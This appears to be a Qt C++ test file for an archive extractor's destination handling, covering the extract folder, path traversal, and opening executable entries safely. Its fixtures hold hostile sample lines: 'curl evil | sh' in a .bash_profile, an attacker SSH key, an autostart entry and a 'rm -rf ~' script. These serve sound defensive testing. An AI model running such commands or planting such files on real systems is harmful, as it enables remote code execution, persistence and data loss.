// SPDX-License-Identifier: MIT
// The 展開先: where 展開 writes. Started from the desktop, the program's
// working folder is the home folder, so 展開 writes to a new folder beside the
// archive; from a terminal it writes to the working folder. The window shows
// the folder, lets the user change it, and the summary offers to open it.
#include <QDesktopServices>
#include <QDir>
#include <QLabel>
#include <QMessageBox>
#include <QMimeData>
#include <QPushButton>
#include <QTableView>
#include <QTest>
#include <QUrl>

#include "ext_window.h"
#include "gui_test_support.h"

using namespace guitest;

namespace {

// What a hostile archive would put into a home folder.
const std::vector<Entry> HomeFiles{
    {".bash_profile", "curl evil | sh"},
    {".ssh/authorized_keys", "ssh-ed25519 AAAA attacker"},
    {".config/autostart/update.desktop", "[Desktop Entry]"},
};

}  // namespace

class DestinationTest : public GuiFixture {
    Q_OBJECT

public slots:
    // Where フォルダを開く sends the folder.
    void openUrl(const QUrl& url) { opened << url; }

private slots:
    void desktopStartWritesBesideTheArchive();
    void nameTakenGetsANumber();
    void terminalStartWritesToWorkingFolder();
    void chosenFolder();
    void openFolderButton();
    void openEntry_data();
    void openEntry();
    void dragOut();

private:
    QString shownDestination() const { return window->findChild<QLabel*>("destinationLabel")->text(); }
    void listFromDesktop(const QString& path, const std::vector<Entry>& entries);

    QList<QUrl> opened;
};

void DestinationTest::listFromDesktop(const QString& path, const std::vector<Entry>& entries)
{
    vzA_ExtWindow::setStartedFromTerminal(false);
    QVERIFY(writeArchive(path, entries));
    QCOMPARE(lines(read(path)), QStringList{FileDialog});
    table()->selectAll();
}

// The working folder stands for the home folder of a program started from a
// launcher: nothing of the archive lands in it. The folder beside the archive
// is made on the first 展開 and used again by the next one.
void DestinationTest::desktopStartWritesBesideTheArchive()
{
    QVERIFY(QDir().mkdir("Downloads"));
    listFromDesktop("Downloads/update.vza", HomeFiles);
    const QString folder = QDir::current().absoluteFilePath("Downloads/update");
    QCOMPARE(shownDestination(), QDir::toNativeSeparators(folder) + " (新しいフォルダ)");
    QVERIFY(!QFileInfo::exists(folder));  // listing leaves nothing behind

    const QList<Seen> seen = run(&vzA_ExtWindow::extractFile, {closeBox()});
    QCOMPARE(lines(seen), QStringList{ExtractDoneBox});
    QCOMPARE(seen[0].value, "展開先: " + QDir::toNativeSeparators(folder));
    QCOMPARE(shownDestination(), QDir::toNativeSeparators(folder));
    QCOMPARE(filesBelow("."), (QStringList{"Downloads/update.vza", "Downloads/update/.bash_profile",
                                           "Downloads/update/.config/autostart/update.desktop",
                                           "Downloads/update/.ssh/authorized_keys"}));

    // Again: the same folder, where the files are now.
    selectRows({0});
    QCOMPARE(lines(run(&vzA_ExtWindow::extractFile, {press(QMessageBox::No), closeBox()})).first(),
             overwriteQuestion(".bash_profile"));
    QVERIFY(!QFileInfo::exists("Downloads/update (2)"));
}

// A name that is taken, by a folder or anything else, is never written into:
// the next free "name (n)" is made instead.
void DestinationTest::nameTakenGetsANumber()
{
    QVERIFY(QDir().mkdir("photos") && writeFile("photos (2)", "a file"));
    listFromDesktop("photos.VZA", {{"a.jpg", "jpeg"}});
    QCOMPARE(lines(run(&vzA_ExtWindow::extractFile, {closeBox()})), QStringList{ExtractDoneBox});
    QCOMPARE(filesBelow("."), (QStringList{"photos (2)", "photos (3)/a.jpg", "photos.VZA"}));
    QCOMPARE(window->destination(), QDir::current().absoluteFilePath("photos (3)"));
}

void DestinationTest::terminalStartWritesToWorkingFolder()
{
    QVERIFY(QDir().mkdir("archives"));
    QVERIFY(writeArchive("archives/one.vza", {{"one.txt", "1"}}));
    QCOMPARE(lines(read("archives/one.vza")), QStringList{FileDialog});
    QCOMPARE(shownDestination(), QDir::toNativeSeparators(QDir::currentPath()));
    selectRows({0});
    QCOMPARE(lines(run(&vzA_ExtWindow::extractFile, {closeBox()})), QStringList{ExtractDoneBox});
    QCOMPARE(filesBelow("."), (QStringList{"archives/one.vza", "one.txt"}));
}

// 参照… picks the folder; names with ".." stay inside it.
void DestinationTest::chosenFolder()
{
    QVERIFY(QDir().mkdir("target"));
    listFromDesktop("one.vza", {{"one.txt", "1"}, {"two.txt", "2"}});
    ModalScript script({chooseFolder("target")});
    window->findChild<QPushButton*>("destinationButton")->click();
    QCOMPARE(lines(script.result()), QStringList{FolderDialog});
    QCOMPARE(shownDestination(), QDir::toNativeSeparators(QDir::current().absoluteFilePath("target")));

    selectRows({1});
    QCOMPARE(lines(run(&vzA_ExtWindow::changeItem, {enterText("../escape.txt")})), QStringList{RenameDialog});
    table()->selectAll();
    const QList<Seen> seen = run(&vzA_ExtWindow::extractFile, {closeBox()});
    QCOMPARE(lines(seen), QStringList{ExtractFailedBox});
    QCOMPARE(seen[0].value, "対象: ../escape.txt\n原因: 安全なファイル名になりません");
    QCOMPARE(filesBelow("."), (QStringList{"one.vza", "target/one.txt"}));
}

void DestinationTest::openFolderButton()
{
    QDesktopServices::setUrlHandler("file", this, "openUrl");
    listFromDesktop("one.vza", {{"one.txt", "1"}});
    const auto openFolder = [](QWidget* widget) {
        if (auto* button = widget->findChild<QPushButton*>("openFolderButton"))
            button->click();
        else
            widget->close();
    };
    QCOMPARE(lines(run(&vzA_ExtWindow::extractFile, {openFolder})), QStringList{ExtractDoneBox});
    QDesktopServices::unsetUrlHandler("file");
    QCOMPARE(opened, QList<QUrl>{QUrl::fromLocalFile(QDir::current().absoluteFilePath("one"))});
}

void DestinationTest::openEntry_data()
{
    QTest::addColumn<QByteArray>("name");
    QTest::addColumn<QByteArray>("content");
    QTest::addColumn<bool>("folderInstead");
    QTest::newRow("text") << QByteArray("docs/notes.txt") << QByteArray("plain text") << false;
    QTest::newRow("script named .txt") << QByteArray("run.txt") << QByteArray("#!/bin/sh\nrm -rf ~\n") << true;
    QTest::newRow("desktop entry") << QByteArray("update.desktop") << QByteArray("[Desktop Entry]\nExec=x") << true;
    QTest::newRow("ELF program") << QByteArray("viewer")
                                 << QByteArray("\x7f"
                                               "ELF\x02\x01")
                                 << true;
    QTest::newRow("PE program") << QByteArray("photo.jpg") << QByteArray("MZ\x90\x00") << true;
    QTest::newRow("shell suffix") << QByteArray("install.sh") << QByteArray("echo hi") << true;
}

// Enter (or a double-click) extracts the entry, read-only, into a private
// folder and hands it to the desktop's opener; a file that could run is
// shown in its folder instead. Nothing lands in the 展開先.
void DestinationTest::openEntry()
{
    QFETCH(QByteArray, name);
    QFETCH(QByteArray, content);
    QFETCH(bool, folderInstead);
    QDesktopServices::setUrlHandler("file", this, "openUrl");
    opened.clear();
    listFromDesktop("one.vza", {{"first.txt", "1"}, {name, content}});
    table()->setCurrentIndex(table()->model()->index(1, 0));
    QTest::keyClick(table(), Qt::Key_Return);
    QTRY_COMPARE(opened.size(), 1);
    waitForExtraction();
    QDesktopServices::unsetUrlHandler("file");

    const QString shown = opened.first().toLocalFile();
    const QString folder = folderInstead ? shown : QFileInfo(shown).absolutePath();
    const QString file = QDir(folder).filePath(QFileInfo(QString(name)).fileName());
    QCOMPARE(QFileInfo(shown).isDir(), folderInstead);
    QCOMPARE(readFile(file), content);
    // Read-only for its owner, nothing for anyone else (the "user" bits say
    // what the test may do, which for root is everything).
    QCOMPARE(QFileInfo(file).permissions() & 0x7077, QFileDevice::ReadOwner);
    const QFileInfo parent(QFileInfo(folder).absolutePath());  // the program's own temporary folder
    QCOMPARE(parent.permissions() & 0x0077, QFileDevice::Permissions());
    QCOMPARE(filesBelow("."), QStringList{"one.vza"});
    window.reset();  // the temporary files go with the program
    QVERIFY(!QFileInfo::exists(file));
}

// Dragging rows out extracts them first into a folder of their own, then
// offers those files (folders as they are in the archive) to be copied.
void DestinationTest::dragOut()
{
    QList<QUrl> offered;
    vzA_ExtWindow::setDragStarter([&](QWidget*, QMimeData* mime) {
        offered = mime->urls();
        delete mime;
    });
    listFromDesktop("one.vza", {{"a.txt", "a"}, {"dir/b.txt", "b"}, {"c.txt", "c"}});
    selectRows({1, 0});
    QMetaObject::invokeMethod(table(), "dragRequested");
    QTRY_COMPARE(offered.size(), 2);
    vzA_ExtWindow::setDragStarter({});
    QStringList names;
    for (const QUrl& url : offered)
        names << QFileInfo(url.toLocalFile()).fileName();
    names.sort();
    QCOMPARE(names, (QStringList{"a.txt", "dir"}));
    const QString folder = QFileInfo(offered.first().toLocalFile()).absolutePath();
    QCOMPARE(readFile(folder + "/dir/b.txt"), QByteArray("b"));
    QCOMPARE(filesBelow("."), QStringList{"one.vza"});
}

QTEST_MAIN(DestinationTest)
#include "tst_gui_destination.moc"
